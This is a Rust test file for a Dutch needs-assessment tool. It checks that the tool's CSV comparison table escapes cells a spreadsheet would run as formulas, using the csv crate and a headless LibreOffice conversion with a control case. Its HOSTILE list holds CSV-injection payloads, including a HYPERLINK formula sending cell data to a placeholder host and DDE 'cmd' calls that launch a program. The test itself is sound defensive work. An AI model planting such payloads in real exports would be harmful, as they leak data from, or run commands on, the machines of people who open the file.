//! The comparison table is safe to open in a spreadsheet (issue 18, item 5): answers and
//! organisation names that a spreadsheet would run as formulas reach the CSV as text. Checked
//! with the `csv` crate and with a real spreadsheet: LibreOffice converts the CSV (as `soffice
//! --headless --convert-to fods`), and the result holds no formula. A control file with a bare
//! formula shows that the check can fail.

// In a test, a panic is how a failure is reported.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::path::{Path, PathBuf};
use std::process::Command;

mod common;
use common::profiles;

/// Cells a spreadsheet would run or follow (OWASP's CSV injection examples, and what the issue
/// found in one test).
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://example.invalid/?d=\"&A1;\"Klik hier\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
];

/// RON's string syntax for `s`.
fn ron_string(s: &str) -> String {
    format!("{s:?}")
}

/// A profile whose organisation name and free texts are `hostile`, under its own id.
fn hostile_profile(dir: &Path, file: &str, name: &str, hostile: &str, id: &str) -> PathBuf {
    let text = profiles::example_text()
        .replacen("Text(\"Gemeente Voorbeeld\")", &format!("Text({})", ron_string(name)), 1)
        .replacen(
            "Text(\"Wijkteams merken dat gezinnen pas hulp zoeken als de situatie al ernstig is. Er zijn weinig vaste contacten met zelforganisaties.\")",
            &format!("Text({})", ron_string(hostile)),
            1,
        )
        .replacen(
            "Text(\"Een keuze voor het type training en een eerste afspraak met een zelforganisatie.\")",
            &format!("Text({})", ron_string(hostile)),
            1,
        )
        .replacen("3f6d2c1a-8b4e-4d2a-9c7f-5e1b0a9d7c21", id, 1);
    assert!(
        text.matches(&ron_string(hostile)).count() >= 2,
        "the example changed"
    );
    let path = dir.join(file);
    std::fs::write(&path, text).unwrap();
    path
}

/// Every cell of the CSV, read by the `csv` crate.
fn cells(path: &Path) -> Vec<String> {
    let bytes = std::fs::read(path).unwrap();
    let body = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(body);
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

/// The CSV converted by LibreOffice to a flat ODF spreadsheet; `None` where LibreOffice is not
/// installed (`.ci/run` installs it).
fn through_libreoffice(csv: &Path) -> Option<String> {
    if !common::needs::tool(
        "soffice",
        "LibreOffice: apt-get install libreoffice-calc-nogui",
    ) {
        return None;
    }
    let profile = tempfile::tempdir().unwrap();
    let out = tempfile::tempdir().unwrap();
    let status = Command::new("soffice")
        .arg(format!(
            "-env:UserInstallation=file://{}",
            profile.path().display()
        ))
        .args(["--headless", "--norestore"])
        // Separator ';' (59), text in '"' (34), UTF-8 (76), from line 1.
        .args([
            "--infilter=CSV:59,34,76,1",
            "--convert-to",
            "fods",
            "--outdir",
        ])
        .arg(out.path())
        .arg(csv)
        .output()
        .unwrap();
    assert!(status.status.success(), "soffice failed: {status:?}");
    let converted = out
        .path()
        .join(csv.with_extension("fods").file_name().unwrap());
    Some(std::fs::read_to_string(converted).unwrap())
}

#[test]
fn formulas_in_profiles_reach_the_spreadsheet_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let mut paths = Vec::new();
    for (i, hostile) in HOSTILE.iter().enumerate() {
        paths.push(hostile_profile(
            dir.path(),
            &format!("p{i}.ron"),
            &format!("{hostile} {i}"),
            hostile,
            &format!("id-{i}"),
        ));
    }
    let table = dir.path().join("tabel.csv");
    let mut args: Vec<String> = vec!["compare".into()];
    args.extend(paths.iter().map(|p| p.to_str().unwrap().to_owned()));
    args.extend(["--csv".into(), table.to_str().unwrap().to_owned()]);
    let out = Command::new(env!("CARGO_BIN_EXE_behoeftewijzer"))
        .args(&args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );

    let all = cells(&table);
    let risky: Vec<&String> = all
        .iter()
        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']))
        .collect();
    assert!(
        risky.is_empty(),
        "cells a spreadsheet would run: {risky:#?}"
    );
    // Each hostile text is still there, whole, behind its quote: nothing lost.
    for (i, hostile) in HOSTILE.iter().enumerate() {
        let heading = all
            .iter()
            .filter(|c| c.starts_with(&format!("'{hostile} {i}")))
            .count();
        assert!(heading >= 1, "the heading of profile {i} is gone");
        assert!(
            all.iter().any(|c| c == &format!("'{hostile}")),
            "the answer {hostile:?} is gone"
        );
    }

    let Some(sheet) = through_libreoffice(&table) else {
        return;
    };
    assert!(
        !sheet.contains("table:formula"),
        "LibreOffice read a formula from the table"
    );
    assert!(sheet.contains("HYPERLINK"), "the text of the cells is gone");

    // The control: the same check finds a bare formula, so it can fail.
    let control = dir.path().join("controle.csv");
    std::fs::write(
        &control,
        "\u{feff}a;b\n=1+1;=HYPERLINK(\"http://example.invalid\")\n",
    )
    .unwrap();
    let sheet = through_libreoffice(&control).unwrap();
    assert!(
        sheet.contains("table:formula"),
        "the check cannot see a formula"
    );
}
